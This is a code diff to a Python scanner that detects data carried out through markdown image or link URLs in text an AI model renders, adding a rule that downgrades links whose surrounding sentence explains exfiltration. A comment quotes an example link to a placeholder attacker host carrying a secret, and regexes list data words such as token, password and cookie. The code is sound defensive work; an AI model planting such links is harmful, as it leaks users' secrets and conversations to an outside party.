@@ -12,7 +12,7 @@ from collections.abc import Callable, Iterator
 
 from sidecar.scanner.context import BLOCK, FLAG, NONE, STEALTH, after, before, framed_level, negated
 from sidecar.scanner.normalise import Views
-from sidecar.scanner.rule import Finder, Rule, RuleMatch, near, regex, words
+from sidecar.scanner.rule import Finder, Rule, RuleMatch, described, near, regex, words
 
 __all__ = ["SHAPE_RULES"]
 
@@ -130,7 +130,9 @@ def _invisible_markup(views: Views) -> Iterator[RuleMatch]:
 
 # --- data carried out by a URL the renderer or a tool fetches
 _MD_URL = re.compile(r"(!?)\[[^\[\]\n]{0,300}\]\(\s*<?([^\s()<>\[\]]{1,4000})")
-_PLACEHOLDER = re.compile(r"\{[^{}]{0,80}\}|\$\{?[a-z_]|%7b|<[a-z_ -]{1,40}>|\[[a-z_ -]{1,40}\]|__[a-z_]{2,40}__")
+_PLACEHOLDER = re.compile(
+    r"\{[^{}]{0,80}\}|\{\{?[\w~.$/-]{1,80}$|\$\{?[a-z_]|%7b|<[a-z_ -]{1,40}>|\[[a-z_ -]{1,40}\]|__[a-z_]{2,40}__"
+)
 _DATA_WORDS = re.compile(
     r"secret|key|token|password|passwd|conversation|history|memory|data|chat|context|prompt|env|cred|summary|"
     r"session|transcript|email|ssn|phone|cookie"
@@ -160,10 +162,30 @@ def _markdown_url(views: Views) -> Iterator[RuleMatch]:
         if url.startswith("data:"):
             continue
         level = _url_level(url, bool(image))
+        if level > NONE and (
+            described(views, found.start(), found.end()) or _explains(views, found.start(), found.end())
+        ):
+            level = FLAG  # "a model that renders ![x](https://attacker/?q=SECRET) leaks it": a description
         if level > NONE:
             yield RuleMatch(
                 found.start(), found.end(), max(FLAG, framed_level(views, found.start(), found.end(), level))
             )
+
+
+# Words around a link that explain what such a link does rather than plant one: "exfiltration via
+# markdown images", "a model that renders ... leaks ...".
+_EXPLAINS = re.compile(
+    r"\bexfiltrat\w*|\bleaks?\b|\b(?:a|an|any|the)\s+(?:model|agent|assistant|llm|client|renderer|chatbot|bot|ui)\s+"
+    r"(?:that|which)\s+(?:renders?|displays?|shows?|loads?)\b"
+)
+
+
+def _explains(views: Views, start: int, end: int) -> bool:
+    """Whether the sentence around the link at ``start:end`` explains what such a link does."""
+    text = views.folded
+    begin = max(text.rfind("\n", 0, start), text.rfind(". ", 0, start), 0)
+    stop = min((i for i in (text.find("\n", end), text.find(". ", end)) if i != -1), default=len(text))
+    return bool(_EXPLAINS.search(text, begin, start) or _EXPLAINS.search(text, end, stop))
 
 
 def _url_level(url: str, image: bool) -> int:
